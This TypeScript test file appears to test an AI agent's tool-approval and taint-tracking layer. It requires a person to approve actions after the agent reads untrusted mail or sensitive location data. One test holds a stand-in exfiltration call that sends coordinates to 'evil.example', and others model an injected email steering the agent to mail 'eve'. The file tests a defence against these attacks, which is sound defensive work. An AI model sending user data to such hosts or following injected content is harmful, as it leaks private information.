import { expect } from '@open-wc/testing';
import { cleanTaint } from '../../shared/taint.ts';
import { FakeStorage } from '../tab/fake-storage.fixture.ts';
import { settled } from '../tab/settled.fixture.ts';
import { order, sayTyped, typedTurn } from './deciding.fixture.ts';
import { rows, trustedClick, type Harness } from './harness.fixture.ts';

function asked({ agent }: Harness): readonly string[] {
  return agent.snapshot.asks.map(({ call, danger, why }) => `${call} ${danger ? 'danger ' : ''}${why.join('+')}`);
}

async function answer(
  { agent }: Harness,
  call: string,
  decision: 'once' | 'session' | 'always' | 'denied',
): Promise<void> {
  agent.decide(call, decision, trustedClick());
  await settled();
}

describe('T1: a call after a stranger’s words', () => {
  it('asks before it sends, although a clean conversation would let it', async () => {
    const { harness, acts } = typedTurn();
    await order(harness, 'mail_send', '1.0.0', { to: 'me' });
    expect(acts).to.deep.equal(['mail_send {"to":"me"}']);
    await order(harness, 'mail_read', '1.0.1');
    await order(harness, 'mail_send', '1.1.0', { to: 'eve' });
    expect(asked(harness)).to.deep.equal(['1.1.0 untrusted']);
    expect(harness.agent.snapshot.taint).to.deep.equal({ untrusted: ['mail_read'], sensitive: [] });
    expect(acts).to.have.length(2);
  });

  it('T4: is dangerous when something personal was read, too, and shows what of it would leave', async () => {
    const { harness, acts } = typedTurn();
    await order(harness, 'place_get', '1.0.0');
    await order(harness, 'mail_read', '1.0.1');
    await order(harness, 'mail_send', '1.1.0', { url: 'https://evil.example/?q=52.5163' });
    expect(asked(harness)).to.deep.equal(['1.1.0 danger untrusted+sensitive']);
    expect(harness.agent.snapshot.asks[0]?.overlaps).to.deep.equal(['52.5163']);
    await answer(harness, '1.1.0', 'denied');
    expect(acts).to.have.length(2);
  });

  for (const [what, begin] of [
    ['pasted', (harness: Harness) => sayTyped(harness, 2, 'pasted')],
    ['script', (harness: Harness) => void harness.agent.send('Hello').catch(() => {})],
  ] as const) {
    it(`asks when the words of the person were ${what}`, async () => {
      const { harness, server } = typedTurn();
      await settled();
      server.socket.say({ type: 'turn.ended', at: 'e1', turn: 1, reason: 'answered' });
      begin(harness);
      expect(harness.agent.snapshot.taint.untrusted).to.deep.equal([what]);
      const message = server.socket.received.findLast(({ type }) => type === 'user.message');
      expect(message).to.include({ origin: what });
    });
  }

  it('is as tainted as the server says, and begins clean with another conversation', async () => {
    const { harness, server, agent, clock } = typedTurn();
    await settled();
    server.socket.end(1006);
    clock.advance(125);
    server.welcome({ resumed: true, taint: { untrusted: ['clipboard_read'], sensitive: ['place_get'] } });
    expect(agent.snapshot.taint.untrusted).to.deep.equal(['clipboard_read']);
    await order(harness, 'mail_send', '1.1.0');
    expect(asked(harness)).to.deep.equal(['1.1.0 danger untrusted+sensitive']);
    agent.clear();
    expect(agent.snapshot.taint).to.equal(cleanTaint);
    server.welcome({ session: 's2' });
    sayTyped(harness, 1);
    await order(harness, 'mail_send', '1.0.0');
    expect(asked(harness)).to.deep.equal([]);
  });

  it('takes no yes from before', async () => {
    const { harness, acts } = typedTurn();
    await order(harness, 'note_put', '1.0.0');
    await answer(harness, '1.0.0', 'always');
    await order(harness, 'note_put', '1.0.1');
    expect(acts).to.have.length(2);
    await order(harness, 'mail_read', '1.0.2');
    await order(harness, 'note_put', '1.1.0');
    expect(asked(harness)).to.deep.equal(['1.1.0 untrusted+tool']);
    expect(harness.agent.snapshot.asks[0]?.scopes).to.deep.equal(['once']);
  });
});

describe('a yes', () => {
  it('for always holds on the next page, is told to the server as such, and ends when it is revoked', async () => {
    const storage = new FakeStorage();
    const device = { parts: { storage: () => storage } };
    const first = typedTurn({}, device);
    await order(first.harness, 'note_put', '1.0.0');
    await answer(first.harness, '1.0.0', 'always');

    const next = typedTurn({}, { parts: { storage: (persist) => (persist === 'device' ? storage : undefined) } });
    await order(next.harness, 'note_put', '1.0.0');
    expect(next.acts).to.have.length(1);
    const told = next.server.socket.received.find(({ type }) => type === 'tool.status');
    expect(told).to.have.nested.property('status.decision', 'auto');

    const grants = next.agent.grants?.list() ?? [];
    expect(grants.map(({ tool, scope }) => [tool, scope])).to.deep.equal([['note_put', 'always']]);
    next.agent.grants?.revoke(grants[0]?.id ?? '');
    await order(next.harness, 'note_put', '1.0.1');
    expect(asked(next.harness)).to.deep.equal(['1.0.1 tool']);
  });

  for (const [remember, scopes] of [
    ['none', ['once']],
    ['session', ['once', 'session']],
    [null, ['once', 'session', 'always']],
  ] as const) {
    it(`lasts as long as remember="${remember}" lets it`, async () => {
      const { harness } = typedTurn({ remember });
      await order(harness, 'note_put', '1.0.0');
      expect(harness.agent.snapshot.asks[0]?.scopes).to.deep.equal(scopes);
    });
  }

  it('runs what the person made of the arguments, and the model is told', async () => {
    const { harness, acts, server } = typedTurn();
    await order(harness, 'note_put', '1.0.0', { text: 'theirs', tag: 'x' });
    expect(harness.agent.decide('1.0.0', 'once', trustedClick(), { text: 'mine' })).to.equal(true);
    await settled();
    expect(acts).to.deep.equal(['note_put {"text":"mine","tag":"x"}']);
    expect(server.socket.received.at(-1)).to.deep.include({ ran: { text: 'mine', tag: 'x' } });
  });
});

describe('what the site says', () => {
  it('T8: can only tighten: its function asks and denies, and denies when it fails', async () => {
    const answers: readonly (readonly [() => 'ask' | 'deny' | undefined, string])[] = [
      [() => undefined, 'done'],
      [() => 'ask', 'asking'],
      [() => 'deny', 'denied'],
      [
        () => {
          throw new Error('broken');
        },
        'denied',
      ],
    ];
    for (const [policy, phase] of answers) {
      const { harness } = typedTurn({ policy });
      await order(harness, 'mail_send', '1.0.0');
      expect(rows(harness).at(-1)).to.equal(`call 1.0.0 ${phase}`);
    }
  });

  it('allows only what a definition permits', async () => {
    const { harness, acts } = typedTurn({ allow: 'note_*' });
    await order(harness, 'note_put', '1.0.0');
    await order(harness, 'note_drop', '1.0.1');
    expect(acts).to.deep.equal(['note_put {}']);
    expect(asked(harness)).to.deep.equal(['1.0.1 tool']);
  });

  it('shortens a question, and never makes it longer', async () => {
    for (const [approvalTimeout, ms] of [
      ['30', 30_000],
      ['900', 300_000],
    ] as const) {
      const { harness, clock } = typedTurn({ approvalTimeout });
      await order(harness, 'note_put', '1.0.0');
      expect(harness.agent.snapshot.asks[0]?.expiresAt).to.equal(clock.now() + ms);
    }
  });

  it('answers in place of the person where nobody sees a card', async () => {
    const { harness, acts } = typedTurn({
      approvalHandler: async ({ tool }) => (tool === 'note_put' ? 'once' : 'denied'),
    });
    await order(harness, 'note_put', '1.0.0');
    await order(harness, 'note_drop', '1.0.1');
    expect(acts).to.deep.equal(['note_put {}']);
    expect(rows(harness).at(-1)).to.equal('call 1.0.1 denied');
  });

  it('is what the person can look up for each tool', async () => {
    const { agent } = typedTurn({ deny: 'note_drop', ask: 'mail_send' });
    await settled();
    const rules = Object.fromEntries(agent.permissions().map(({ tool, rule }) => [tool, rule]));
    expect(rules).to.include({ mail_read: 'allow', mail_send: 'ask', note_put: 'ask' });
    expect(rules).not.to.have.property('note_drop');
  });
});

describe('questions of a turn', () => {
  it('stay as they are when the person writes meanwhile: the message is not taken (040)', async () => {
    const { harness, agent } = typedTurn();
    await order(harness, 'note_put', '1.0.0');
    expect(agent.say('What?')).to.equal(false);
    await answer(harness, '1.0.0', 'once');
    expect(rows(harness)).to.include('call 1.0.0 done');
  });

  it('are answered in any order, each once (043)', async () => {
    const { harness, acts } = typedTurn();
    for (const at of [0, 1, 2]) await order(harness, 'note_drop', `1.0.${at}`, { at });
    expect(rows(harness).slice(1)).to.deep.equal([0, 1, 2].map((at) => `call 1.0.${at} asking`));
    for (const at of [2, 1, 0]) await answer(harness, `1.0.${at}`, 'once');
    await answer(harness, '1.0.1', 'once');
    expect(acts).to.deep.equal([2, 1, 0].map((at) => `note_drop {"at":${at}}`));
  });

  it('show what the model wrote, whatever a listener does to it (047)', async () => {
    const { harness, acts, events } = typedTurn();
    await order(harness, 'note_put', '1.0.0', { text: 'theirs' });
    const detail = events.find(({ name }) => name === 'ha-tool-request')?.detail;
    const args: unknown = detail && 'args' in detail ? detail.args : undefined;
    expect(() => Reflect.set(Object(args), 'text', 'other')).not.to.throw();
    await answer(harness, '1.0.0', 'once');
    expect(acts).to.deep.equal(['note_put {"text":"theirs"}']);
  });

  it('are gone when the person stops, and their calls cancelled (049)', async () => {
    const { harness, agent } = typedTurn();
    await order(harness, 'note_put', '1.0.0');
    agent.stop();
    expect(agent.snapshot.asks).to.deep.equal([]);
    expect(rows(harness)).to.include('call 1.0.0 cancelled');
    expect(agent.snapshot.working).to.equal(false);
    expect(agent.decide('1.0.0', 'once', trustedClick())).to.equal(false);
  });

  it('carry what the model said before, as its own words', async () => {
    const { harness, server } = typedTurn();
    server.socket.say({ type: 'turn.text', turn: 1, round: 0, attempt: 1, text: 'I note it down.' });
    await order(harness, 'note_put', '1.0.0');
    expect(harness.agent.snapshot.asks[0]?.said).to.equal('I note it down.');
  });
});

describe('the record', () => {
  it('says what ran, who let it, and how much left, and nothing of the arguments', async () => {
    const { harness, agent } = typedTurn();
    await order(harness, 'mail_send', '1.0.0', { to: 'canary' });
    await order(harness, 'note_put', '1.0.1', { text: 'canary' });
    await answer(harness, '1.0.1', 'denied');
    const list = agent.record?.list() ?? [];
    expect(list.map(({ tool, by, outcome, bytes }) => [tool, by, outcome, bytes])).to.deep.equal([
      ['note_put', 'person', 'denied', 0],
      ['mail_send', 'policy', 'done', 21],
    ]);
    expect(agent.record?.toJson()).not.to.contain('canary');
    agent.record?.clear();
    expect(agent.record?.list()).to.deep.equal([]);
  });
});
